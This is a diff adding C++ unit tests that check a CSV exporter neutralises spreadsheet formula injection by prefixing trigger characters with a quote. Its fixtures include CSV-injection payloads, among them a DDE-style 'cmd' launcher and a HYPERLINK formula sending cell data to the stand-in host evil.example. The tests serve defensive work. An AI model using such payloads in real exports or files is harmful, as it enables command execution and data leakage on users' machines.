@@ -143,6 +143,54 @@ TEST_F(ExportTest, csv_quotes_text_with_commas_and_quotes) {
   EXPECT_EQ(split(lines[1])[1], odd.uuid);
 }
 
+TEST(CsvCellTest, a_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote) {
+  // Before: every one of these reached the CSV unchanged, and a spreadsheet ran it (OWASP "CSV Injection").
+  const std::vector<std::pair<std::string, std::string>> cases{
+      {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
+      {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+      {"-2+3", "'-2+3"},
+      {"@SUM(A1)", "'@SUM(A1)"},
+      {"\t=1", "'\t=1"},
+      {"\r=1", "\"'\r=1\""},
+      {"-", "'-"},
+      {"- 5", "'- 5"},
+      // Numbers are data, not formulas; text that does not start with a trigger is left as it is.
+      {"-5", "-5"},
+      {"+1.5e3", "+1.5e3"},
+      {"-0.25", "-0.25"},
+      {"GPU-a=b", "GPU-a=b"},
+      {"", ""},
+      {"a,b", "\"a,b\""}};
+  for (const auto& [text, cell] : cases) {
+    std::string line;
+    append_csv_cell(line, text);
+    EXPECT_EQ(line, cell) << text;
+  }
+}
+
+TEST_F(ExportTest, csv_neutralises_a_formula_in_a_uuid) {
+  const auto path = dir_.file("f.sqlite");
+  core::DeviceInfo evil;
+  evil.uuid = "=HYPERLINK(\"http://evil.example/\"&A1,\"GPU-0\")";
+  const auto raw = synthetic::sample(0, 0, 1);
+  {
+    auto writer = Writer::open(path);
+    ASSERT_TRUE(writer);
+    ASSERT_TRUE(writer->write_devices(std::span(&evil, 1)));
+    ASSERT_TRUE(writer->append(raw, core::derive(raw, evil)));
+    ASSERT_TRUE(writer->close());
+  }
+  auto reader = Reader::open(path);
+  ASSERT_TRUE(reader);
+  std::ostringstream out;
+  ASSERT_TRUE(export_csv(*reader, out));
+  const auto lines = lines_of(out.str());
+  ASSERT_EQ(lines.size(), 2u);
+  // Before: the cell was the formula itself.
+  EXPECT_EQ(split(lines[1])[1], "'" + evil.uuid);
+  EXPECT_EQ(split(lines[1])[2], std::to_string(raw.t_start_ns)) << "numbers are left as they are";
+}
+
 TEST_F(ExportTest, jsonl_one_object_per_sample_with_nulls_for_unknown) {
   auto reader = Reader::open(path_);
   ASSERT_TRUE(reader);
